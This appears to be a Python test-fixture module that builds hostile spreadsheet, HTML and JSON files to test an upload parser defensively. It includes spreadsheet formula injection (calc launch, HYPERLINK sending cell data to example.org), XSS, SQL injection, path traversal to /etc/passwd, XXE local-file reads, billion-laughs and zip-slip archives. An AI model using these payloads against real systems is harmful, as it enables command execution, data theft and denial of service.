"""Tables made to do harm, by a script: hostile texts in each format, and files whose structure is the attack.

Small ones, so that they are read here in seconds; large ones stand in tests/sheets/hostile.py.
"""

import io
import json
import zipfile
from collections.abc import Iterator
from html import escape
from itertools import product

# A text that stands in a file of this machine, which no table may come to hold.
SECRET = "canary-of-a-local-file"

TEXTS = {
    "command": "=cmd|'/c calc'!A1",
    "plus": "+1+cmd|'/c calc'!A1",
    "minus": "-2+3+cmd|'/c calc'!A1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "blank": " =1+1",
    "fullwidth": "\uff1d1+1",
    "hyperlink": '=HYPERLINK("https://example.org/?"&A1,"Fulda")',
    "webservice": '=WEBSERVICE("https://example.org/")',
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "textarea": "</textarea><svg onload=alert(1)>",
    "link": "javascript:alert(1)",
    "template": "{{ 7*7 }}{% load static %}",
    "sql": "'); DROP TABLE survey_answer; --",
    "format": "%s%n%x{0}{0.__class__}",
    "path": "../../../../etc/passwd",
    "control": "a\x00b\x1bc\x08d",
    "direction": "a\u202eb\u2066c\u2069",
    "invisible": "a\u200bb\u2060c\ufeffd",
    "marks": "a" + "\u0301" * 500,
    "surrogate": "a\ud800b",
    "noncharacter": "a\ufffeb\uffffc",
    "quotes": "a\"b\"\"c'd''e",
    "lines": "a\nb\r\nc\rd\u2028e\u0085f",
    "separators": "a;b,c\td|e",
    "number": "9" * 400,
    "exponent": "1e999999999",
    "nan": "NaN",
}

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{path}">]>'
LAUGHS = "<!DOCTYPE a [<!ENTITY a 'haha'>{}]>".format(
    "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(8))
)
PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "file://{path}"> %x;]>'


def packed(parts: dict[str, str | bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content)
    return file.getvalue()


# Hostile texts, one table each


def rows(text: str) -> list[list[str]]:
    return [["Landkreis", "Frage 1", text[:80]], ["LK Fulda", text, "1"], [text, "Ja.", text], ["LK Kassel", "", "3"]]


def as_csv(text: str) -> bytes:
    quoted = (";".join('"{}"'.format(cell.replace('"', '""')) for cell in row) for row in rows(text))
    return "\r\n".join(quoted).encode("utf-8", "surrogatepass")


def as_utf_16(text: str) -> bytes:
    return as_csv(text).decode("utf-8", "surrogatepass").encode("utf-16", "surrogatepass")


def as_json(text: str) -> bytes:
    (label, *headings), *lines = rows(text)
    return json.dumps([dict(zip([label, *headings], line, strict=True)) for line in lines]).encode()


def as_json_lines(text: str) -> bytes:
    return b"\n".join(json.dumps(line).encode() for line in json.loads(as_json(text)))


def as_html(text: str) -> bytes:
    lines = ("".join(f"<td>{escape(cell)}</td>" for cell in row) for row in rows(text))
    page = "<meta charset=utf-8><table>{}</table>".format("".join(f"<tr>{line}</tr>" for line in lines))
    return page.encode("utf-8", "surrogatepass")


def as_xlsx(text: str) -> bytes:
    lines = (
        "".join(f'<c t="inlineStr"><is><t xml:space="preserve">{escape(cell)}</t></is></c>' for cell in row)
        for row in rows(text)
    )
    return xlsx("".join(f"<row>{line}</row>" for line in lines))


def as_xlsx_formula(text: str) -> bytes:
    """The text as a formula with a stored result, as spreadsheet programs write it."""
    cell = f'<c t="str"><f>{escape(text)}</f><v>{escape(text)}</v></c>'
    head = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in ("Landkreis", "Frage 1"))
    return xlsx(f'<row>{head}</row><row><c t="inlineStr"><is><t>LK Fulda</t></is></c>{cell}</row>')


def as_ods(text: str) -> bytes:
    lines = (
        "".join(
            f'<table:table-cell office:value-type="string"><text:p>{escape(cell)}</text:p></table:table-cell>'
            for cell in row
        )
        for row in rows(text)
    )
    return ods("".join(f"<table:table-row>{line}</table:table-row>" for line in lines))


WRITERS = {
    "csv": as_csv,
    "utf-16.csv": as_utf_16,
    "json": as_json,
    "jsonl": as_json_lines,
    "html": as_html,
    "xlsx": as_xlsx,
    "formula.xlsx": as_xlsx_formula,
    "ods": as_ods,
}


def xlsx(lines: str, *, before: str = "", doctype: str = "", **parts: str) -> bytes:
    sheet = f'{doctype}<worksheet xmlns="{MAIN}">{before}<sheetData>{lines}</sheetData></worksheet>'
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    whole = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{relations}"><sheets>'
        '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": sheet,
    }
    return packed(whole | parts)


def ods(lines: str, *, doctype: str = "", styles: str = "", **parts: str) -> bytes:
    content = (
        f'{doctype}<office:document-content xmlns:office="{OFFICE}office:1.0" xmlns:table="{OFFICE}table:1.0" '
        f'xmlns:text="{OFFICE}text:1.0" xmlns:style="{OFFICE}style:1.0" xmlns:number="{OFFICE}datastyle:1.0">'
        f"<office:automatic-styles>{styles}</office:automatic-styles><office:body>"
        f'<office:spreadsheet><table:table table:name="a">{lines}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = f'<m:manifest xmlns:m="{OFFICE}manifest:1.0"/>'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return packed({"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content} | parts)


# Hostile structures


def cell(reference: str, inside: str = "<v>1</v>", kind: str = "n") -> str:
    return f'<c r="{reference}" t="{kind}">{inside}</c>'


def structures(path: str) -> Iterator[tuple[str, bytes]]:
    """Each with the name of its attack; `path` is the file that holds the secret."""
    yield from spreadsheets(path)
    yield from documents(path)
    yield from texts()


def spreadsheets(path: str) -> Iterator[tuple[str, bytes]]:
    fulda = f"<row>{cell('A1')}{cell('B1')}</row><row>{cell('A2')}{cell('B2')}</row>"
    good = xlsx(fulda)
    for name, doctype in {"external": EXTERNAL, "parameter": PARAMETER}.items():
        yield (
            f"{name}-sheet.xlsx",
            xlsx(f"<row>{cell('A1', '<is><t>&x;</t></is>', 'inlineStr')}</row>", doctype=doctype.format(path=path)),
        )
        strings = f'{doctype.format(path=path)}<sst xmlns="{MAIN}"><si><t>&x;</t></si></sst>'
        yield (
            f"{name}-strings.xlsx",
            xlsx(f"<row>{cell('A1', '<v>0</v>', 's')}</row>", **{"xl/sharedStrings.xml": strings}),
        )
        for part in ("xl/workbook.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels", "docProps/core.xml"):
            yield (
                f"{name}-{part.replace('/', '-')}.xlsx",
                xlsx(fulda, **{part: f"{doctype.format(path=path)}<a>&x;</a>"}),
            )
    yield "laughs.xlsx", xlsx(f"<row>{cell('A1', '<is><t>&i;</t></is>', 'inlineStr')}</row>", doctype=LAUGHS)
    for reference in ("A0", "A-1", "A1048577", "XFE1", "A99999999999999999999", "", "1A", "ÄÖ1", "$A$1"):
        yield f"cell-{ascii(reference)[1:-1].replace(chr(92), '')}.xlsx", xlsx(f"<row>{cell(reference)}</row>")
    for index in ("-1", "99999999", "x", "1e3", ""):
        yield f"string-{index}.xlsx", xlsx(f"<row>{cell('A1', f'<v>{index}</v>', 's')}</row>")
    for style in ("-1", "99999999", "x"):
        yield f"style-{style}.xlsx", xlsx(f'<row><c r="A1" s="{style}"><v>1</v></c></row>')
    for kind, value in (("b", "7"), ("e", "#REF!"), ("d", "9999-99-99"), ("n", "1e400"), ("n", "--"), ("zz", "1")):
        yield f"value-{kind}-{value.strip('#!-')}.xlsx", xlsx(f"<row>{cell('A1', f'<v>{value}</v>', kind)}</row>")
    yield (
        "merged-all.xlsx",
        xlsx(fulda + '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'),
    )
    yield "dimension-lies.xlsx", xlsx(fulda, before='<dimension ref="A1:XFD1048576"/>')
    yield "deep.xlsx", xlsx("<row>" + "<c>" * 20_000 + "</c>" * 20_000 + "</row>")
    yield "attributes.xlsx", xlsx("<row {}/>".format(" ".join(f'a{n}="1"' for n in range(20_000))))
    for number in ("x", "-1", "99999999999999999999"):
        column = f'<cols><col hidden="1" min="{number}" max="{number}"/></cols>'
        yield f"hidden-{number}.xlsx", xlsx(fulda + f'<row r="{number}" hidden="1"/>', before=column)
    yield "unclosed.xlsx", xlsx("<row><c>")
    yield (
        "sheet-elsewhere.xlsx",
        xlsx(
            fulda,
            **{"xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r1" Target="{path}"/></Relationships>'},
        ),
    )
    yield (
        "sheet-above.xlsx",
        xlsx(
            fulda,
            **{
                "xl/_rels/workbook.xml.rels": '<Relationships><Relationship Id="r1" Target="../../../etc/passwd"/></Relationships>'
            },
        ),
    )
    yield "entry-above.xlsx", packed({"../../../tmp/evil.xml": "<a/>", "xl/workbook.xml": "<workbook/>"})
    yield "twice.xlsx", good + good
    yield "no-workbook.xlsx", packed({"xl/worksheets/sheet1.xml": "<worksheet/>"})
    yield "nothing.xlsx", packed({})
    for length in (10, 100, len(good) // 2, len(good) - 30, len(good) - 1):
        yield f"cut-{length}.xlsx", good[:length]
    for position in range(30, len(good) - 60, max(1, len(good) // 24)):
        yield f"changed-{position}.xlsx", good[:position] + bytes([good[position] ^ 0xFF]) + good[position + 1 :]


def documents(path: str) -> Iterator[tuple[str, bytes]]:
    full = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
    row = f"<table:table-row>{full}{full}</table:table-row>"
    text = full.replace("x<", "&x;<")
    for name, doctype in {"external": EXTERNAL, "parameter": PARAMETER}.items():
        yield (
            f"{name}.ods",
            ods(f"<table:table-row>{text}{text}</table:table-row>{row}", doctype=doctype.format(path=path)),
        )
    yield "laughs.ods", ods(row.replace("x<", "&i;<"), doctype=LAUGHS)
    for count in ("-1", "0", "x", "99999999999", "1e9"):
        repeated = f'<table:table-cell table:number-columns-repeated="{count}"><text:p>x</text:p></table:table-cell>'
        yield f"columns-{count}.ods", ods(f"<table:table-row>{full}{repeated}</table:table-row>{row}")
        yield (
            f"rows-{count}.ods",
            ods(row + row.replace("<table:table-row>", f'<table:table-row table:number-rows-repeated="{count}">')),
        )
        yield (
            f"spans-{count}.ods",
            ods(row.replace("<table:table-cell", f'<table:table-cell table:number-columns-spanned="{count}"', 1) + row),
        )
    yield (
        "formula.ods",
        ods(
            row
            + f'<table:table-row>{full}<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://example.org&quot;)" office:value-type="string"><text:p>=1</text:p></table:table-cell></table:table-row>'
        ),
    )
    for digits in ("x", "-1", "999999999"):
        style = (
            f'<style:style style:name="s" style:family="table-cell" style:data-style-name="n"/>'
            f'<number:percentage-style style:name="n"><number:number number:min-integer-digits="{digits}" '
            f'number:decimal-places="{digits}"/></number:percentage-style>'
        )
        percent = '<table:table-cell table:style-name="s" office:value-type="percentage" office:value="1"><text:p>1</text:p></table:table-cell>'
        content = ods(row + f"<table:table-row>{full}{percent}</table:table-row>", styles=style)
        yield f"digits-{digits}.ods", content
    yield "blanks.ods", ods(row + row.replace("x<", '<text:s text:c="999999999"/><'))
    yield "deep.ods", ods("<table:table-row>" + "<text:span>" * 20_000)
    for count in ("-1", "0", "x", "99999999999"):
        page = f"<table><tr><td rowspan={count} colspan={count}>a<td>b<tr><td>c<td>d</table>"
        yield f"spans-{count}.html", page.encode()
    yield "deep.html", b"<table><tr><td>" * 3_000
    yield (
        "script.html",
        b"<table><tr><td>a<script>fetch('//example.org')</script><td>b<tr><td>c<td><iframe src=//example.org>d</table>",
    )
    yield "external.html", f"{EXTERNAL.format(path=path)}<table><tr><td>&x;<td>b<tr><td>c<td>d</table>".encode()
    yield "object.html", f'<object data="file://{path}"></object><table><tr><td>a<td>b<tr><td>c<td>d</table>'.encode()


def texts() -> Iterator[tuple[str, bytes]]:
    yield "deep.json", b"[" * 100_000 + b"]" * 100_000
    yield "deep-object.json", b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    yield "number.json", b'[{"respondent": "LK Fulda", "a": ' + b"9" * 10_000 + b"}]"
    yield "infinite.json", b'[{"respondent": "LK Fulda", "a": Infinity, "b": -1e999}]'
    yield "same-key.json", b'[{"respondent": "LK Fulda", "a": "1", "a": "2"}]'
    yield "empty-key.json", b'[{"": "LK Fulda", "\\u0000": "1"}]'
    yield "prototype.json", b'[{"__proto__": {"a": 1}, "constructor": "x"}]'
    for value in ("1", "null", '"a"', "[]", "[1]", "[[[]]]", '{"a": [{}]}', "[{}]", '[{"a": {"b": 1}}]'):
        yield f"value-{len(value)}-{value.encode().hex()[:8]}.json", value.encode()
    yield "broken.jsonl", b'{"respondent": "LK Fulda", "a": "1"}\n{"respondent":\n[]\nnull\n'
    yield "bytes.csv", bytes(range(256)) * 4
    yield "nothing.csv", b""
    yield "mark.csv", b"\xef\xbb\xbf"
    yield "two-marks.csv", b"\xff\xfe\xfe\xff" + "a;b".encode("utf-16-le")
    yield "half.csv", b"\xff\xfea"
    yield "open-quote.csv", b'a;b\nLK Fulda;"1\n' + b"x;y\n" * 500
    yield "columns.csv", b";".join(b"a%d" % n for n in range(5_000)) + b"\nLK Fulda" + b";1" * 4_999
    yield "ragged.csv", b"\n".join(b";" * n for n in range(200))
    yield "separator.csv", b"sep=\x00\na\x00b\n"
    yield "returns.csv", b"a;b\rLK Fulda;1\r\r\rLK Kassel;2\n\r"
    yield "begin.pdf", b"%PDF-1.7\n%%EOF"
    yield "ole.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2_000
    yield "polyglot.csv", b"PK\x03\x04a;b\nLK Fulda;1"


def made(path: str) -> dict[str, bytes]:
    """All of them, by their names; `path` is a file that holds the secret."""
    found = {f"{text}.{ending}": WRITERS[ending](TEXTS[text]) for text, ending in product(TEXTS, WRITERS)}
    return found | dict(structures(path))
